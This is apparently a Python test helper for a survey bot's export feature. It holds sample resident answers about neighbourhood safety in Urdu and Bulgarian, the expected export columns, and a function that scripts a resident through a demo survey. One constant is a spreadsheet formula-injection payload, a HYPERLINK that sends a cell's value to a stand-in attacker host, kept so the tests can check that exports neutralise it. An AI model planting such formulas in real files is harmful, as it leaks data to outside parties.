"""Residents through the demo survey for the exports' tests: answers in the scripts and the
formula an export must carry safely, and the columns the demo survey exports."""

from __future__ import annotations

from bot.conversations import Inbound, handle
from staff import exports

URDU = "رات کو گلی میں روشنی نہیں ہوتی اور پولیس کبھی نظر نہیں آتی"
BULGARIAN = "Полицията никога не идва, когато я повикаме през нощта в квартала"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
DEMO_COLUMNS = [*exports.FIXED, "feel_safe", "why_unsafe", "trust", "safer", "contact",
                "years", "why_unsafe__en"]


def answer_demo(rt, address: str, unsafe_because: str | None, channel: str = "sms",
                finish: bool = True) -> None:
    """A resident through the demo survey: scale, text (if unsafe), choice, multi, yes/no,
    number."""
    texts = ["DEMO", "yes", "2" if unsafe_because else "4"]
    texts += [unsafe_because] if unsafe_because else []
    texts += ["a little", "1 and 3", "yes", "12"] if finish else ["a little"]
    for text in texts:
        handle(rt, Inbound(channel, address, text))
